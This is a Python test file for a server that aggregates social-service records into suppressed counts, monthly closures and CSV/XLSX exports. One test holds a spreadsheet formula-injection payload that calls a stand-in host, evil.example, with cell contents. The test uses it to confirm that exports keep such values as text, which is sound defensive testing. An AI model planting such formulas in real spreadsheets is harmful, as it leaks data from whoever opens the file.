"""The aggregation behind snapshots (``server.snapshots``) and roll-ups (``server.rollup``), on in-memory
node stores: exact figures, small-cell suppression, closed months and their revisions, incremental answers,
the union of children, medians, and exports."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings, strategies as st

from server.node import Node
from server.rollup import build, child_of, median_of, to_csv, to_xlsx
from server.snapshots import (
    DAY_MS, Cell, CellDiff, Closure, Part, Snapshotter, Source, _Tally, close_month, content_hash, figures,
    merge_parts, parse_have, township_parts, within,
)
from sync.errors import BadRequest
from sync.hlc import HLC
from sync.schema import CATEGORIES, GROUPS

TOWNSHIP = "510903001000"
V1, V2 = "510903001001", "510903001002"


@pytest.fixture
def node() -> Iterator[Node]:
    n = Node(None, TOWNSHIP)
    yield n
    n.close()


def resident(node: Node, unit: str, groups: list[str], name: str = "张秀英") -> str:
    return node.editor().create("person", {"name": name, "unit": unit, "groups": groups, "phone": "13800001111"})


def need(node: Node, person: str, unit: str, category: str, *moves: str) -> str:
    ed = node.editor()
    nid = ed.create("need", {"person": person, "unit": unit, "category": category, "status": "待处理",
                             "description": "需要助餐"})
    for m in moves:
        ed.update(nid, {"status": m})
    return nid


def service(node: Node, person: str, unit: str, kind: str, when: str, minutes: int | None = 30,
            people: int | None = None) -> str:
    values: dict[str, Any] = {"person": person, "unit": unit, "service_type": kind, "served_at": when}
    if minutes is not None:
        values["minutes"] = minutes
    if people is not None:
        values["people_served"] = people
    return node.editor().create("service", values)


def by_key(cells: list[Cell]) -> dict[tuple[str, ...], list[int | None]]:
    return {tuple(c.k): c.v for c in cells}


def test_figures_count_needs_services_and_residents_exactly(node: Node) -> None:
    a = resident(node, V1, ["老年人", "独居"])
    b = resident(node, V1, ["儿童", "残疾人"])
    c = resident(node, V2, [])
    need(node, a, V1, "养老服务", "服务中", "已解决")
    need(node, b, V1, "养老服务")
    need(node, c, V2, "困难救助", "已取消")
    gone = need(node, c, V2, "困难救助")
    node.editor().delete(gone)
    service(node, a, V1, "养老服务", "2026-10-03T09:00", 45, 3)
    service(node, b, V1, "养老服务", "2026-10-20T09:00", None)  # no minutes: 0; no people: 1
    service(node, c, V2, "生活物资", "2026-11-01T09:00", 20, 1)
    f = figures(node.store, TOWNSHIP)
    (needs_part,) = [k for k in f if k.startswith("needs/")]
    assert by_key(f[needs_part]) == {(V1, "养老服务", "已解决"): [1], (V1, "养老服务", "待处理"): [1],
                                     (V2, "困难救助", "已取消"): [1]}
    assert by_key(f["services/2026-10"]) == {(V1, "养老服务"): [2, 45, 4]}
    assert by_key(f["services/2026-11"]) == {(V2, "生活物资"): [1, 20, 1]}
    assert by_key(f["residents"]) == {(V1, "老年人"): [1], (V1, "儿童"): [1], (V1, "残疾人"): [1],
                                      (V1, "合计"): [2], (V2, "合计"): [1]}
    (resolved,) = [v for k, v in f.items() if k.startswith("resolved/")]
    assert by_key(resolved) == {(V1, "0"): [1]}


def test_no_personal_value_is_in_any_part(node: Node) -> None:
    p = resident(node, V1, ["老年人"], name="欧阳娜娜")
    need(node, p, V1, "医疗健康")
    parts = township_parts(node.store, TOWNSHIP, suppress_below=0)
    text = repr(parts)
    assert "欧阳娜娜" not in text and "13800001111" not in text and "需要助餐" not in text and p not in text


def test_cells_under_the_threshold_leave_as_null(node: Node) -> None:
    people = [resident(node, V1, ["老年人"]) for _ in range(4)] + [resident(node, V2, ["老年人"])]
    for p in people[:3]:
        need(node, p, V1, "养老服务")
    need(node, people[3], V1, "心理支持")
    parts = township_parts(node.store, TOWNSHIP, suppress_below=3)
    (needs_part,) = [p for n, p in parts.items() if n.startswith("needs/")]
    assert by_key(needs_part.cells) == {(V1, "养老服务", "待处理"): [3], (V1, "心理支持", "待处理"): [None]}
    assert by_key(parts["residents"].cells)[(V2, "老年人")] == [None]
    assert by_key(parts["residents"].cells)[(V1, "老年人")] == [4]
    ro = build(TOWNSHIP, parts)
    assert ro.need_total() == 3 and ro.suppressed == {"needs": 1, "residents": 2}
    exact = township_parts(node.store, TOWNSHIP, suppress_below=0)
    assert build(TOWNSHIP, exact).need_total() == 4


def test_the_resolution_clock_runs_from_the_first_op_to_resolved() -> None:
    now = [1_790_000_000_000]  # ms; 2026-09-21 in China
    n = Node(None, TOWNSHIP, clock=HLC(clock=lambda: now[0]))
    try:
        p = resident(n, V1, [])
        nid = need(n, p, V1, "养老服务")
        now[0] += 3 * DAY_MS + 3600_000
        n.editor().update(nid, {"status": "服务中"})
        now[0] += DAY_MS
        n.editor().update(nid, {"status": "已解决"})
        now[0] += 40 * DAY_MS  # closed in another month: the resolution stays where it was
        n.editor().update(nid, {"status": "已关闭"})
        f = figures(n.store, TOWNSHIP)
    finally:
        n.close()
    assert by_key(f["resolved/2026-09"]) == {(V1, "4"): [1]}
    assert by_key(f["needs/2026-09"]) == {(V1, "养老服务", "已关闭"): [1]}


def test_closing_a_month_freezes_it_and_a_later_edit_is_a_revision_with_its_diff(node: Node) -> None:
    p = resident(node, V1, [])
    for _ in range(3):
        service(node, p, V1, "养老服务", "2026-10-03T09:00", 30)
    close_month(node.store, TOWNSHIP, "2026-10", by="刘主任", now=1_000)
    part = township_parts(node.store, TOWNSHIP, suppress_below=3)["services/2026-10"]
    assert part.closures == [Closure(unit=TOWNSHIP, month="2026-10", closed_at=1_000, closed_by="刘主任",
                                     frozen_hash=content_hash(part.cells), revision=0, diff=[])]
    service(node, p, V1, "养老服务", "2026-10-09T09:00", 60)
    service(node, p, V1, "心理支持", "2026-10-09T09:00", 60)  # a cell of one: suppressed, still a change
    part = township_parts(node.store, TOWNSHIP, suppress_below=3)["services/2026-10"]
    (cl,) = part.closures
    assert cl.revision == 1
    assert [(d.k, d.before, d.after) for d in cl.diff] == [
        ([V1, "养老服务"], [3, 90, 3], [4, 150, 4]), ([V1, "心理支持"], None, [None, None, None])]
    # the same content stays revision 1; another change is revision 2; closing again approves it
    assert township_parts(node.store, TOWNSHIP, suppress_below=3)["services/2026-10"].closures[0].revision == 1
    service(node, p, V1, "养老服务", "2026-10-10T09:00", 10)
    assert township_parts(node.store, TOWNSHIP, suppress_below=3)["services/2026-10"].closures[0].revision == 2
    close_month(node.store, TOWNSHIP, "2026-10", by="刘主任", now=2_000)
    (cl,) = township_parts(node.store, TOWNSHIP, suppress_below=3)["services/2026-10"].closures
    assert (cl.revision, cl.diff, cl.closed_at) == (0, [], 2_000)
    # the other months are untouched
    assert township_parts(node.store, TOWNSHIP, suppress_below=3)["residents"].closures == []


def test_a_month_must_be_a_month(node: Node) -> None:
    with pytest.raises(BadRequest) as e:
        close_month(node.store, TOWNSHIP, "2026-13", by="x")
    assert e.value.code == "invalid_month"


def test_an_answer_holds_only_the_parts_the_caller_lacks(node: Node) -> None:
    p = resident(node, V1, ["老年人"])
    service(node, p, V1, "养老服务", "2026-09-03T09:00")
    service(node, p, V1, "养老服务", "2026-10-03T09:00")
    snap = Snapshotter(node.store, TOWNSHIP, suppress_below=0)
    first = snap.snapshot()
    assert {p.name for p in first.parts} == {m.name for m in first.manifest}
    have = {m.name: m.hash for m in first.manifest}
    assert snap.snapshot(have).parts == []
    service(node, p, V1, "养老服务", "2026-10-04T09:00")
    again = snap.snapshot(have)
    assert [p.name for p in again.parts] == ["services/2026-10"]
    assert again.watermark > first.watermark and again.hash != first.hash


def parts_by_key(f: dict[str, list[Cell]]) -> dict[str, dict[tuple[str, ...], list[int | None]]]:
    return {name: by_key(cells) for name, cells in f.items()}


_STEP = st.one_of(
    st.tuples(st.just("person"), st.sampled_from([V1, V2]), st.sets(st.sampled_from(GROUPS))),
    st.tuples(st.just("need"), st.integers(0, 20), st.sampled_from(CATEGORIES[:3])),
    st.tuples(st.just("status"), st.integers(0, 20), st.sampled_from(["服务中", "已解决", "已关闭", "已取消"])),
    st.tuples(st.just("service"), st.integers(0, 20), st.sampled_from(CATEGORIES[:2]), st.integers(0, 90)),
    st.tuples(st.just("minutes"), st.integers(0, 20), st.integers(0, 90)),
    st.tuples(st.just("groups"), st.integers(0, 20), st.sets(st.sampled_from(GROUPS))),
    st.tuples(st.just("move"), st.integers(0, 60), st.sampled_from([V1, V2])),
    st.tuples(st.just("delete"), st.integers(0, 60)),
    st.tuples(st.just("look"), st.integers(0, 40)),  # days pass, and the snapshot is taken
)


@settings(max_examples=60, deadline=None)
@given(st.lists(_STEP, min_size=1, max_size=30))
def test_figures_kept_up_to_date_equal_figures_counted_afresh(steps: list[tuple[Any, ...]]) -> None:
    # the township keeps its figures and reads again only what changed; they must equal a count from scratch
    now = [1_790_000_000_000]
    n = Node(None, TOWNSHIP, clock=HLC(clock=lambda: now[0]))
    try:
        ed = n.editor()
        tally = _Tally(n.store, TOWNSHIP)
        people = [resident(n, v, g) for v, g in ((V1, ["老年人", "独居"]), (V1, []), (V2, ["儿童"]))]
        needs = [need(n, p, v, "养老服务") for p, v in zip(people, (V1, V1, V2))]
        services = [service(n, p, v, "养老服务", "2026-09-21T09:00", 30, 2) for p, v in zip(people, (V1, V1, V2))]
        tally.update()

        def held(rid: str) -> Any:
            rec = n.store.get(rid)
            assert rec is not None
            return rec

        for step in steps:
            kind, *args = step
            everything = people + needs + services
            if kind == "person":
                people.append(resident(n, args[0], sorted(args[1])))
            elif kind == "need":
                p = people[args[0] % len(people)]
                needs.append(need(n, p, held(p).unit, args[1]))
            elif kind == "status":
                ed.update(needs[args[0] % len(needs)], {"status": args[1]}, check_transitions=False)
            elif kind == "service":
                p = people[args[0] % len(people)]
                services.append(service(n, p, held(p).unit, args[1], f"2026-{9 + args[2] % 3:02d}-03T09:00",
                                        args[2]))
            elif kind == "minutes":
                ed.update(services[args[0] % len(services)], {"minutes": args[1]})
            elif kind == "groups":
                ed.update(people[args[0] % len(people)], {"groups": sorted(args[1])})
            elif kind == "move":
                ed.update(everything[args[0] % len(everything)], {"unit": args[1]})
            elif kind == "delete":
                rid = everything[args[0] % len(everything)]
                if not held(rid).deleted:
                    ed.delete(rid)
            elif kind == "look":
                now[0] += args[0] * DAY_MS
                assert parts_by_key(tally.update()) == parts_by_key(figures(n.store, TOWNSHIP))
        assert parts_by_key(tally.update()) == parts_by_key(figures(n.store, TOWNSHIP))
    finally:
        n.close()


def test_kept_figures_read_again_only_the_records_written_since(node: Node, monkeypatch: Any) -> None:
    people = [resident(node, V1, ["老年人"]) for _ in range(30)]
    tally = _Tally(node.store, TOWNSHIP)
    read: list[list[str] | None] = []
    real = _Tally._read

    def spy(self: _Tally, ids: list[str] | None) -> None:
        read.append(ids)
        real(self, ids)

    monkeypatch.setattr(_Tally, "_read", spy)
    tally.update()
    assert read == [None]  # the first time: everything
    tally.update()
    assert read == [None]  # nothing written since: nothing read
    node.editor().update(people[3], {"groups": ["儿童"]})
    after = by_key(tally.update()["residents"])
    assert read[1:] == [[people[3]]]
    assert after[(V1, "老年人")] == [29] and after[(V1, "儿童")] == [1]


def test_kept_figures_start_over_on_an_op_log_that_went_back(node: Node) -> None:
    resident(node, V1, ["老年人"])
    tally = _Tally(node.store, TOWNSHIP)
    tally.update()
    tally.seq += 1000  # as if the database were replaced by an older backup
    tally.totals[0][0] = 99
    assert parts_by_key(tally.update()) == parts_by_key(figures(node.store, TOWNSHIP))


def test_the_union_of_children_adds_up_and_keeps_closures() -> None:
    cl = Closure(unit=TOWNSHIP, month="2026-10", closed_at=1, closed_by="x", frozen_hash="0" * 16)
    a = {"needs/2026-10": Part(name="needs/2026-10", hash="a", cells=[Cell([V1, "养老服务", "待处理"], [2])],
                               closures=[cl])}
    b = {"needs/2026-10": Part(name="needs/2026-10", hash="b", cells=[Cell([V1, "养老服务", "待处理"], [3]),
                                                                        Cell([V2, "其他", "待处理"], [None])])}
    merged = merge_parts([a, b])["needs/2026-10"]
    assert by_key(merged.cells) == {(V1, "养老服务", "待处理"): [5], (V2, "其他", "待处理"): [None]}
    assert merged.closures == [cl]
    assert merged.hash == merge_parts([b, a])["needs/2026-10"].hash


def test_a_scope_keeps_its_own_cells_closures_and_sources() -> None:
    diff = [CellDiff([V1, "养老服务", "待处理"], [3], [4]), CellDiff([V2, "其他", "待处理"], None, [5])]
    cl = Closure(unit=TOWNSHIP, month="2026-10", closed_at=1, closed_by="x", frozen_hash="0" * 16, revision=1,
                 diff=diff)
    parts = {"needs/2026-10": Part(name="needs/2026-10", hash="a", closures=[cl], cells=[
                 Cell([V1, "养老服务", "待处理"], [4]), Cell([V2, "其他", "待处理"], [5])]),
             "devices": Part(name="devices", hash="b", cells=[Cell([V1], [1, 1, 1])])}
    sources = [Source(unit=TOWNSHIP, tier="township"), Source(unit="510903002000", tier="township")]
    got, found = within(parts, sources, (V2, V2))  # a township account scoped to village 2
    assert list(got) == ["needs/2026-10"]  # no device of village 2
    assert by_key(got["needs/2026-10"].cells) == {(V2, "其他", "待处理"): [5]}
    # the township's closure still shows, with village 2's change only
    assert [d.k for c in got["needs/2026-10"].closures for d in c.diff] == [[V2, "其他", "待处理"]]
    assert got["needs/2026-10"].hash == content_hash(got["needs/2026-10"].cells, got["needs/2026-10"].closures)
    assert found == []
    got, found = within(parts, sources, ("510903000000", "510903999999"))  # the whole county
    assert got["needs/2026-10"].cells == parts["needs/2026-10"].cells and found == sources
    got, found = within(parts, sources, ("510904000000", "510904999999"))  # another county
    assert got == {} and found == []


@given(st.dictionaries(st.integers(0, 400), st.integers(1, 50), min_size=1))
def test_the_median_of_a_histogram_is_the_median_of_its_values(hist: dict[int, int]) -> None:
    import statistics

    values = [v for v, n in hist.items() for _ in range(n)]
    assert median_of(hist) == statistics.median(values)


def test_children_are_the_units_one_tier_below() -> None:
    assert child_of("510900000000", V1) == "510903000000"
    assert child_of("510903000000", V1) == TOWNSHIP
    assert child_of(TOWNSHIP, V1) == V1


def test_have_is_checked(node: Node) -> None:
    assert parse_have("needs/2026-10:0123456789abcdef,residents:fedcba9876543210") == {
        "needs/2026-10": "0123456789abcdef", "residents": "fedcba9876543210"}
    for bad in ("needs", "needs:xyz", "needs:0123456789ABCDEF", ":0123456789abcdef"):
        with pytest.raises(BadRequest) as e:
            parse_have(bad)
        assert e.value.code == "invalid_have"


def test_exports_hold_the_roll_up(node: Node) -> None:
    p = resident(node, V1, ["老年人"])
    need(node, p, V1, "养老服务", "服务中", "已解决")
    service(node, p, V1, "养老服务", "2026-10-03T09:00", 45)
    ro = build(TOWNSHIP, township_parts(node.store, TOWNSHIP, suppress_below=0), names={V1: "育才社区"})
    rows = list(csv.reader(io.StringIO(to_csv(ro).lstrip("\ufeff"))))
    assert ["2026-10", V1, "育才社区", "1", "45", "1"] in rows
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(ro)))
    办结 = list(wb["办结"].iter_rows(values_only=True))
    assert 办结[1] == (V1, "育才社区", 1, 1, "100.0%", "0")


def test_exports_keep_text_that_looks_like_a_formula_as_text() -> None:
    # a township may author a need category with any code; the county's files must not run it
    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
    parts = {"needs/2026-10": Part(name="needs/2026-10", hash="", cells=[Cell([V1, evil, "待处理"], [3]),
                                                                         Cell([V2, "@SUM(1)", "待处理"], [4])])}
    ro = build(TOWNSHIP, parts)
    rows = list(csv.reader(io.StringIO(to_csv(ro).lstrip("\ufeff"))))
    assert [V1, f"未命名村/社区（{V1}）", "'" + evil, "3"] in [r[:4] for r in rows]  # no unit tree here
    assert [V2, f"未命名村/社区（{V2}）", "'@SUM(1)", "4"] in [r[:4] for r in rows]
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(ro)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {(c.value, c.data_type) for c in cells if c.column_letter == "C" and c.row > 1
            and c.parent.title == "需求"} == {(evil, "s"), ("@SUM(1)", "s")}
